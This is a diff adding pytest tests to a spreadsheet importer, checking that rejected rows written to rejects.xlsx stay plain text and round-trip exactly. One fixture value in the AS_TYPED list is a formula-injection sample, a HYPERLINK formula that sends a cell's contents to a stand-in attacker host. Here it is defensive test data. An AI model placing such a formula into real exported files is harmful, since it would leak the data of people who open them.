@@ -4,13 +4,23 @@ from __future__ import annotations
 
 import csv
 import random
+import tempfile
 from pathlib import Path
 from typing import Any
 
+import openpyxl
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from importer.cli import main
 from importer.errors import Code, Reject, RowWarning, WarningCode
 from importer.read.escape import REJECTS_EXTRA_COLUMNS
+from importer.read.tables import open_table
+from importer.record import workbook
 from importer.record.outcomes import RowOutcome, Status
 from importer.record.report import RESULTS_COLUMNS, Recorder
+from tests.test_fuzz import SPECIAL as fuzz_special
 
 HEADERS = ["First Name", "Email", "Notes"]
 # Characters that make csv.writer quote, spreadsheet formula starts, and plain text.
@@ -135,3 +145,156 @@ def test_rows_arriving_out_of_order_are_written_in_input_order(tmp_path: Path) -
         assert (tmp_path / "shuffled" / name).read_bytes() == (
             tmp_path / "in_order" / name
         ).read_bytes()
+
+
+# -- rejects.xlsx: text cells that Excel opens, saves and the importer reads back as typed ------
+
+# What Excel or a type-guessing reader would turn into something else, as CSV cells.
+AS_TYPED = [
+    '=HYPERLINK("http://evil.example/?"&A2,"CV")',
+    "+44 20 7946 0958",
+    "007",
+    "1e5",
+    "12345678901234567890",
+    "2024-03-04",
+    "3/4",
+    "TRUE",
+    "#N/A",
+    "-",
+    "@SUM(1+1)",
+    "'=typed with an apostrophe",
+    "''+two apostrophes",
+    "'s-Hertogenbosch",
+    " padded ",
+    "line\r\nbreaks\rand\ttabs",
+    "_x000D_ and _x005F_ typed",
+    "<b>&amp;</b> ]]>",
+    "\x00\x01\x0b\x1f",
+]
+# XML cannot hold U+FFFE and U+FFFF: written in Excel's _xFFFE_ escape, which calamine leaves
+# as it is, so they are the only characters whose round trip is not exact.
+CELL_TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\ufffe\uffff"))
+
+
+def rejected(number: int) -> RowOutcome:
+    reject = Reject(number, Code.INVALID_EMAIL, 'column "Email": "=x" is bad', "email")
+    return RowOutcome(number, Status.REJECTED, rejects=(reject,))
+
+
+def write_rejects(out: Path, rows: list[tuple[str, ...]]) -> Recorder:
+    recorder = Recorder(out, HEADERS)
+    for seq, values in enumerate(rows):
+        recorder.record(seq, rejected(seq + 2), values)
+    recorder.close()
+    return recorder
+
+
+def read_back(path: Path, *, streaming: bool) -> list[tuple[str, ...]]:
+    with open_table(path, header_row=1, streaming_threshold=0 if streaming else 1 << 30) as table:
+        assert table.engine == ("openpyxl" if streaming else "calamine")
+        assert table.headers == [*HEADERS, *REJECTS_EXTRA_COLUMNS]
+        return [row.values for row in table.rows]
+
+
+@pytest.mark.parametrize("streaming", [False, True], ids=["calamine", "openpyxl"])
+def test_rejects_xlsx_reads_back_every_cell_as_typed(streaming: bool, tmp_path: Path) -> None:
+    rows = [(value, "ann@", value) for value in AS_TYPED]
+    rows += [tuple(text(random.Random(n)) for _ in HEADERS) for n in range(300)]
+    write_rejects(tmp_path, rows)
+
+    again = read_back(tmp_path / "rejects.xlsx", streaming=streaming)
+
+    assert [values[: len(HEADERS)] for values in again] == rows
+    assert [values[len(HEADERS)] for values in again] == [str(n + 2) for n in range(len(rows))]
+    # rejects.csv reads back the same
+    with open_table(tmp_path / "rejects.csv", header_row=1) as table:
+        assert [row.values[: len(HEADERS)] for row in table.rows] == rows
+
+
+def test_rejects_xlsx_cells_are_text_formatted_as_text_never_formulas(tmp_path: Path) -> None:
+    write_rejects(tmp_path, [(value, "ann@", "0044") for value in AS_TYPED])
+
+    sheet = openpyxl.load_workbook(tmp_path / "rejects.xlsx").active
+    assert sheet.title == "rejects"
+    first = sheet["A2"]
+    assert (first.value, first.data_type, first.number_format) == (AS_TYPED[0], "s", "@")
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert {cell.number_format for cell in cells} == {"@"}
+    # a cell the user fills in while fixing a row is text as well: every column is
+    columns = sheet.column_dimensions["A"]
+    assert (columns.min, columns.max, columns.number_format) == (1, 7, "@")
+
+
+@settings(max_examples=60, deadline=None, derandomize=True, database=None)
+@given(rows=st.lists(st.tuples(CELL_TEXT, CELL_TEXT, CELL_TEXT), min_size=1, max_size=5))
+def test_hostile_cells_round_trip_through_rejects_xlsx(rows: list[tuple[str, ...]]) -> None:
+    with tempfile.TemporaryDirectory() as folder:
+        write_rejects(Path(folder), rows)
+        for streaming in (False, True):
+            again = read_back(Path(folder) / "rejects.xlsx", streaming=streaming)
+            assert [values[: len(HEADERS)] for values in again] == rows
+
+
+def test_the_fuzz_corpus_bytes_round_trip_through_rejects_xlsx(tmp_path: Path) -> None:
+    special = [piece.decode("utf-8", "replace") for piece in fuzz_special]
+    rows = [(piece, piece * 3, f"a{piece}b") for piece in special]
+
+    write_rejects(tmp_path, rows)
+
+    for streaming in (False, True):
+        again = read_back(tmp_path / "rejects.xlsx", streaming=streaming)
+        assert [values[: len(HEADERS)] for values in again] == rows
+
+
+def test_rejects_xlsx_is_made_only_with_rejects_and_never_left_from_an_earlier_run(
+    tmp_path: Path,
+) -> None:
+    write_rejects(tmp_path, [("Ann", "ann@", "")])
+    assert (tmp_path / "rejects.xlsx").is_file()
+
+    recorder = Recorder(tmp_path, HEADERS)
+    recorder.record(0, RowOutcome(2, Status.CREATED, http_status=201, attempts=1), ("A", "a@b", ""))
+    recorder.close()
+
+    assert not (tmp_path / "rejects.xlsx").exists()
+    assert (tmp_path / "rejects.csv").read_text(encoding="utf-8-sig").count("\n") == 1
+
+
+def test_more_rejects_than_a_sheet_holds_leave_rejects_xlsx_out_and_every_row_in_the_csv(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(workbook, "SHEET_ROWS", 3)
+    rows = [(f"Ann {n}", "ann@", "") for n in range(5)]
+
+    write_rejects(tmp_path, rows)
+
+    assert not (tmp_path / "rejects.xlsx").exists()
+    with open_table(tmp_path / "rejects.csv") as table:
+        assert [row.values[:3] for row in table.rows] == rows
+
+
+def test_a_fixed_rejects_xlsx_imports_again_through_the_same_mapping_as_typed(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    header = ["Name", "Email", "Phone", *(f"Extra {n}" for n in range(len(AS_TYPED)))]
+    rows = [
+        ["Ann Lee", "ann@example.com", "+44 20 7946 0958", *AS_TYPED],
+        ["Bob Stone", "bob@", "007", *AS_TYPED],
+        ["Cy Young", "cy@", "+44 20 7946 0959", *reversed(AS_TYPED)],
+    ]
+    path = tmp_path / "input.csv"
+    with path.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([header, *rows])
+    mapping = str(Path(__file__).parent.parent / "mappings" / "default.yaml")
+
+    assert main(["validate", str(path), "-m", mapping, "--out", str(tmp_path / "one")]) == 1
+    first = tmp_path / "one" / "rejects.xlsx"
+    assert "rejects.csv, rejects.xlsx, summary.json" in capsys.readouterr().err
+    assert main(["validate", str(first), "-m", mapping, "--out", str(tmp_path / "two")]) == 1
+
+    # the error columns of the first round are ignored; every cell arrives as typed
+    for name in ("rejects.xlsx", "rejects.csv"):
+        with open_table(tmp_path / "two" / name) as table:
+            again = [(row.values[: len(header)], row.values[-3]) for row in table.rows]
+        assert again == [(tuple(rows[1]), "invalid-email"), (tuple(rows[2]), "invalid-email")]
